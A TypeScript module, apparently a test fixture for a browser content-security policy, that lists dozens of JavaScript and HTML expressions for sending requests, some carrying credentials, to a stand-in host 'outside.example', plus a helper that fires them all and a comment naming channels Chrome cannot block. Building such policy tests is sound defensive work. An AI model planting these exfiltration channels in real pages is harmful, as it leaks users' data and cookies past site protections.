/** Where everything is sent to: each way out to a host of its own name. */
export const OUTSIDE = 'outside.example';

const at = (name: string) => `https://${name}.${OUTSIDE}/?secret`;

/** Puts an element into the page. */
const element = (markup: string) =>
  `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)})`;

const styled = (name: string, property: string) =>
  `document.body.appendChild(document.createElement('p')).style.${property} = 'url(${at(name)})'`;

const link = (name: string, rel: string, more = '') =>
  element(`<link rel="${rel}" href="${at(name)}" ${more}>`);

/**
 * Every way by which a page can send something to a server without leaving for it, as an expression.
 *
 * Three are beyond any policy of today's Chrome. A page can be left, or open another one, for any address; the person
 * sees that. It can have the browser get ready for a host (`preconnect`, or a frame that is refused then), which tells
 * the network its name and the server nothing. And WebRTC asks a server by UDP how it is seen from there: Chrome does
 * not know the directive against that.
 */
export const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: `fetch('${at('fetch')}')`,
  opaque: `fetch('${at('opaque')}', { mode: 'no-cors', credentials: 'include' })`,
  post: `fetch('${at('post')}', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' })`,
  xhr: `(() => { const it = new XMLHttpRequest(); it.open('GET', '${at('xhr')}'); it.send(); })()`,
  beacon: `navigator.sendBeacon('${at('beacon')}', 'x')`,
  image: `new Image().src = '${at('image')}'`,
  picture: element(`<picture><source srcset="${at('picture')}"><img alt=""></picture>`),
  input: element(`<input type="image" src="${at('input')}">`),
  drawing: element(`<svg><image href="${at('drawing')}"/></svg>`),
  video: element(`<video src="${at('video')}" preload="auto"></video>`),
  poster: element(`<video poster="${at('poster')}"></video>`),
  audio: `void new Audio('${at('audio')}').load()`,
  track: element(
    `<video crossorigin src="data:,"><track default kind="captions" src="${at('track')}"></video>`,
  ),
  background: styled('background', 'backgroundImage'),
  border: styled('border', 'borderImageSource'),
  mask: styled('mask', 'maskImage'),
  content: styled('content', 'content'),
  style: element(`<style>body { background: url(${at('style')}) }</style>`),
  sheet: link('sheet', 'stylesheet'),
  adopted: `(() => { const it = new CSSStyleSheet(); it.replaceSync('body { list-style-image: url(${at('adopted')}); display: list-item }'); document.adoptedStyleSheets = [it]; })()`,
  font: `new FontFace('x', 'url(${at('font')})').load()`,
  prefetch: link('prefetch', 'prefetch'),
  preload: link('preload', 'preload', 'as="image"'),
  preloadfetch: link('preloadfetch', 'preload', 'as="fetch" crossorigin'),
  modulepreload: link('modulepreload', 'modulepreload'),
  frame: element(`<iframe src="${at('frame')}"></iframe>`),
  srcdoc: element(`<iframe srcdoc="<img src='${at('srcdoc')}'>"></iframe>`),
  object: element(`<object data="${at('object')}"></object>`),
  embed: element(`<embed src="${at('embed')}">`),
  form: `(() => { const it = document.createElement('form'); it.action = '${at('form')}'; it.target = 'nowhere'; document.body.append(it); it.submit(); })()`,
  ping: `(() => { const it = document.createElement('a'); it.href = '#'; it.ping = '${at('ping')}'; document.body.append(it); it.click(); })()`,
  script: `document.body.appendChild(document.createElement('script')).src = '${at('script')}'`,
  import: `import('${at('import')}')`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('${at('worker')}')"])))`,
  socket: `new WebSocket('${at('socket').replace('https', 'wss')}')`,
  events: `new EventSource('${at('events')}')`,
};

/** Tries all of them; what throws has gone nowhere. */
export const TRY_ALL = Object.values(WAYS_OUT)
  .map((way) => `try { Promise.resolve(${way}).catch(() => {}) } catch {}`)
  .join(';\n');

/** The ways by which requests have come, by the hosts that they were for. */
export const waysIn = (hosts: readonly string[]): readonly string[] =>
  [...new Set(hosts.map((host) => host.split('.')[0] ?? ''))].sort();
